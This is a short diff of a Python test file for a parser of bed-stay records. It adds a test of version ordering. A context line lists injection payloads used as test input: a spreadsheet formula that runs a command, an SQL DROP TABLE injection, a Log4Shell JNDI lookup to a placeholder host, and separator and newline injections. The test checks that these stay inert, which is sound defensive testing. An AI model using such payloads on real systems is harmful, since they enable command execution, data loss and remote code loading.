@@ -118,6 +118,12 @@ def test_a_cut_mis_encoded_or_unbalanced_line_costs_itself_only() -> None:
     ]  # fmt: skip
 
 
+def test_what_was_never_updated_gives_way_to_its_update_whenever_either_came() -> None:
+    header, *lines = dedent(STAYS).strip().encode().split(b"\n")
+    versions = [record.version for record in read("bed_stays", b"\n".join([header, *lines]))]
+    assert versions == ["2026-11-01 02:00:00", "2026-11-01 02:00:00", "0001-01-01T00:00:00Z"]
+
+
 def test_a_value_that_looks_like_code_stays_a_value() -> None:
     """A formula, SQL, a separator and another line in a ward's name: none does anything, none moves a column."""
     hostile = ["=cmd|' /C calc'!A0", "x'; DROP TABLE bed_event; --", "a,b", "a\nb", "${jndi:ldap://x}"]
